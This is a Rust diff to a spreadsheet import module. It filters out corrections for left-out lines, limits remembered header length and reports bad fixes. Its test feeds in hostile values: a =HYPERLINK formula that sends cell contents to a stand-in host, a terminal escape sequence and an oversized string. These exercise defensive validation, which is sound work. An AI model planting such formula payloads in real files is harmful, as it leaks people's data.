@@ -175,6 +175,18 @@ pub struct Options {
     pub leave_out: Vec<usize>,
 }
 
+impl Options {
+    /// The corrections of the lines still imported: a line the officer left out after correcting
+    /// it keeps no correction.
+    fn fixes_in_force(&self) -> Vec<CellFix> {
+        self.fixes
+            .iter()
+            .filter(|f| !self.leave_out.contains(&f.line))
+            .cloned()
+            .collect()
+    }
+}
+
 /// A value of a coded field that is none of the program's names: asked once for all its rows.
 #[derive(Debug, Clone, Serialize, ts_rs::TS)]
 pub struct ValueQuestion {
@@ -255,6 +267,8 @@ pub struct Outcome {
 }
 
 const SAMPLE_ROWS: usize = 8;
+/// The longest header the import remembers.
+const MAX_REMEMBERED_HEADER: usize = 100;
 pub const SHOWN_CONVERSIONS: usize = 2000;
 pub const SHOWN_PROBLEM_ROWS: usize = 500;
 
@@ -311,7 +325,12 @@ pub fn prepare(
         for (i, c) in columns.iter().enumerate() {
             let chosen = t.mapping.positions[i];
             if let Some(j) = chosen.filter(|_| found.as_ref().map(|f| f[i]) != Some(chosen)) {
-                if let Some(h) = t.header.get(j).filter(|h| !h.trim().is_empty()) {
+                // A header is a few words; a pasted page is not worth remembering.
+                if let Some(h) = t
+                    .header
+                    .get(j)
+                    .filter(|h| !h.trim().is_empty() && h.chars().count() <= MAX_REMEMBERED_HEADER)
+                {
                     taught.push((table::header_key(h), c.label.to_string()));
                 }
             }
@@ -320,7 +339,7 @@ pub fn prepare(
     import_memory::remember(conn, &header_scope, &taught)?;
 
     let mut errors = Vec::new();
-    let fixes = apply_fixes(&mut t.rows, columns, &options.fixes, &mut errors);
+    let fixes = apply_fixes(&mut t.rows, columns, &options.fixes_in_force(), &mut errors);
     let (rows, unreadable) = table::readable_rows(std::mem::take(&mut t.rows), columns);
     errors.extend(unreadable);
     let mut rows = match kind {
@@ -370,10 +389,26 @@ fn apply_fixes(
     let at: HashMap<usize, usize> = rows.iter().enumerate().map(|(i, r)| (r.line, i)).collect();
     let mut changed = Vec::new();
     for fix in fixes {
-        let (Some(&i), Some(col)) = (
-            at.get(&fix.line),
-            columns.iter().position(|c| c.label == fix.field),
-        ) else {
+        let refuse = |message: String| RowError {
+            line: fix.line,
+            column: fix.field.chars().take(20).collect(),
+            message: format!("修改未采用：{message}"),
+        };
+        let Some(col) = columns.iter().position(|c| c.label == fix.field) else {
+            errors.push(refuse(format!(
+                "没有名为“{}”的字段，可选：{}",
+                fix.field.chars().take(20).collect::<String>(),
+                columns
+                    .iter()
+                    .map(|c| c.label)
+                    .collect::<Vec<_>>()
+                    .join("、")
+            )));
+            continue;
+        };
+        // A line left out, skipped or never in the file has nothing to correct.
+        let Some(&i) = at.get(&fix.line) else {
+            errors.push(refuse("文件中这一行不是要导入的数据行".into()));
             continue;
         };
         let value = fix.value.trim();
@@ -382,11 +417,7 @@ fn apply_fixes(
                 .then(|| "修改后的内容不能是公式（以 = + @ 开头）".to_string())
         });
         if let Some(message) = refused {
-            errors.push(RowError {
-                line: fix.line,
-                column: fix.field.clone(),
-                message: format!("修改未采用：{message}"),
-            });
+            errors.push(refuse(message));
             continue;
         }
         let row = &rows[i];
@@ -781,7 +812,12 @@ pub fn preview(
     let at_fault: BTreeSet<usize> = a.errors.iter().map(|e| e.line).collect();
     let mut t = table::parse(&a.file, bytes, kind.columns(), Some(&a.mapping), &[])?;
     leave_out(&mut t, &options.leave_out);
-    apply_fixes(&mut t.rows, kind.columns(), &options.fixes, &mut Vec::new());
+    apply_fixes(
+        &mut t.rows,
+        kind.columns(),
+        &options.fixes_in_force(),
+        &mut Vec::new(),
+    );
     let sample = t
         .rows
         .iter()
@@ -872,8 +908,8 @@ pub fn annotate(
     for e in &p.errors {
         problems.entry(e.line).or_default().push(e);
     }
-    let fixed: HashMap<(usize, &str), &str> = options
-        .fixes
+    let in_force = options.fixes_in_force();
+    let fixed: HashMap<(usize, &str), &str> = in_force
         .iter()
         .map(|f| ((f.line, f.field.as_str()), f.value.as_str()))
         .collect();
@@ -1556,6 +1592,16 @@ mod tests {
         };
         let options = Options {
             fixes: vec![
+                CellFix {
+                    line: 99,
+                    field: "学时".into(),
+                    value: "8".into(),
+                },
+                CellFix {
+                    line: 2,
+                    field: "学分".into(),
+                    value: "8".into(),
+                },
                 fix("=HYPERLINK(\"http://x/?\"&A2)".into()),
                 fix("长".repeat(32_000)),
                 fix("心电\u{1b}[2J图".into()),
@@ -1577,7 +1623,15 @@ mod tests {
         )
         .unwrap();
         let said: Vec<&str> = p.errors.iter().map(|e| e.message.as_str()).collect();
-        assert_eq!(said.len(), 4, "{said:?}");
+        assert_eq!(said.len(), 6, "{said:?}");
+        assert!(
+            said.contains(&"修改未采用：文件中这一行不是要导入的数据行"),
+            "{said:?}"
+        );
+        assert!(
+            said.iter().any(|m| m.contains("没有名为“学分”的字段")),
+            "{said:?}"
+        );
         assert!(
             said.iter().all(|m| m.starts_with("修改未采用：")),
             "{said:?}"
